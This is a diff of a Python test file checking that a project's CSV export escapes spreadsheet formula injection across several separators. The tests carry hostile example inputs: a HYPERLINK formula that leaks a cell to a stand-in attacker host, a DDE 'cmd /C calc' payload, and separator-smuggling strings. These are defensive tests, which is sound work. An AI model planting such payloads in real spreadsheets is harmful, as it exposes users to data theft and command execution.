@@ -1,7 +1,9 @@
 """The table holds every answer as it was given, whatever it is, and no spreadsheet takes it for more."""
 
+import base64
 import csv
 import io
+import re
 from dataclasses import replace
 from datetime import date
 from pathlib import Path
@@ -10,47 +12,76 @@ from tempfile import TemporaryDirectory
 import pandas as pd
 import pytest
 from any_answers import NOW, answers
+from conftest import Reader
 from hypothesis import example, given, settings
 from hypothesis import strategies as st
+from markupsafe import Markup
 
 from reconnect_widgets.answers import Answer
-from reconnect_widgets.copies.chosen import Chosen
+from reconnect_widgets.copies.chosen import KINDS, PAGES, Chosen
 from reconnect_widgets.copies.making import make_copy
-from reconnect_widgets.copies.table import COLUMNS, write_table
+from reconnect_widgets.copies.table import COLUMNS, SEPARATORS, write_table
 from reconnect_widgets.record import Record
 from reconnect_widgets.stages import BY_NUMBER
 from reconnect_widgets.store import Store
+from reconnect_widgets.tools.export import Export
 from reconnect_widgets.views.saying import say_answer
 
-FORMULAS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
-BEGIN = st.sampled_from(["", *FORMULAS, " ", "'", '"', ",", ";"])
+SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
+FORMULAS = (*SIGNS, "\t", "\r", "\n")
+BEGIN = st.sampled_from(["", *FORMULAS, " ", "'", '"', ",", ";", ";=", '\t"=', ',"", -', "|@"])
 ANY = st.text(st.characters(exclude_categories=["Cs"]), max_size=40)
-said = st.builds(str.__add__, BEGIN, ANY)
+said = st.lists(st.builds(str.__add__, BEGIN, ANY), max_size=3).map("".join)
 NOTE = Answer(0, "space.name", "", "01", "text", "A few words", {}, "", "v", NOW.date(), NOW, NOW)
 
 
-def read(text: str) -> list[list[str]]:
-    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
+def read(text: str, sign: str = ",") -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=sign))
 
 
 def unmarked(cell: str) -> str:
-    """A cell without the apostrophe that keeps it text."""
-    return cell[1:] if cell.startswith(tuple(f"'{one}" for one in FORMULAS)) else cell
+    """A cell without the apostrophes that keep it text."""
+    return cell.replace("'", "")
 
 
+@pytest.mark.parametrize("separator", SEPARATORS)
 @settings(max_examples=300)
 @given(words=said, value=said)
 @example(words='=HYPERLINK("http://evil.example?"&A1)', value="@SUM(1+1)*cmd|' /C calc'!A0")
 @example(words="a\r\n=1+1", value='"\n=1+1\n"')
-def test_any_words_stand_in_one_cell_and_none_begins_a_formula(words: str, value: str) -> None:
-    head, row = read("".join(write_table([replace(NOTE, words=words, value=value)])))
+@example(words="thanks;=1+1", value='thanks;"=1+1')
+@example(words="thanks,=1+1", value="thanks\u2028＝1+1")
+def test_any_words_stand_in_one_cell_and_none_begins_a_formula(
+    separator: str, words: str, value: str
+) -> None:
+    made = "".join(write_table([replace(NOTE, words=words, value=value)], separator))
+    head, row = read(made, SEPARATORS[separator])
 
     assert tuple(head) == COLUMNS
     assert not any(cell.startswith(FORMULAS) for cell in row)
     assert row[1] == f"01 {BY_NUMBER['01'].title}"
-    asked, answered = row[2:]
-    assert asked in (words, f"'{words}")
-    assert answered in (value, f"'{value}")
+    assert [unmarked(cell) for cell in row[2:]] == [unmarked(words), unmarked(value)]
+
+
+@pytest.mark.parametrize("separator", SEPARATORS)
+@settings(max_examples=300)
+@given(value=said)
+@example(value="thanks;=1+1")
+@example(value='thanks;"=1+1"')
+@example(value='thanks;""=1+1')
+@example(value="two\tcells\t=1+1\n+2\r@3\x85-4")
+def test_a_spreadsheet_that_parts_cells_elsewhere_finds_no_formula_either(
+    separator: str, value: str
+) -> None:
+    made = "".join(write_table([replace(NOTE, value=value)], separator)).removeprefix("\ufeff")
+
+    for line in made.splitlines():
+        for cell in re.split(r"[,;\t|]", line):
+            assert not cell.lstrip('" ').startswith(SIGNS), made
+            for other in ",;\t|":
+                assert not any(
+                    one.startswith(SIGNS) for one in next(csv.reader([cell], delimiter=other), [])
+                )
 
 
 @settings(max_examples=40)
@@ -72,10 +103,22 @@ def test_whatever_order_they_came_in_the_oldest_stands_first(
     assert [answer.changed_at for answer in kept] == sorted(a.changed_at for a in kept)
 
 
-@pytest.mark.parametrize("begins", FORMULAS)
+@pytest.mark.parametrize("begins", SIGNS)
 def test_pandas_reads_what_was_written(begins: str) -> None:
     answer = replace(NOTE, value=f"{begins}1, two")
 
     frame = pd.read_csv(io.StringIO("".join(write_table([answer]))), encoding="utf-8-sig")
 
     assert frame["answer"].tolist() == [f"'{begins}1, two"]
+
+
+@pytest.mark.parametrize(("kind", "sign"), [("csv", ","), ("csv-semicolon", ";")])
+def test_the_page_offers_both_separators(kind: str, sign: str, reader: Reader) -> None:
+    wish = {"type": "make", "kind": kind, "pages": [*PAGES], "kinds": [*KINDS]}
+
+    made = Export().answer(wish, reader.record, lambda *_: None)
+
+    assert f'value="{kind}"' in str(Export().html((), lambda *_: Markup("")))
+    assert made is not None
+    assert (made["media"], made["name"][-4:]) == ("text/csv", ".csv")
+    assert base64.b64decode(made["data"]).decode("utf-8-sig").startswith(f"when{sign}page")
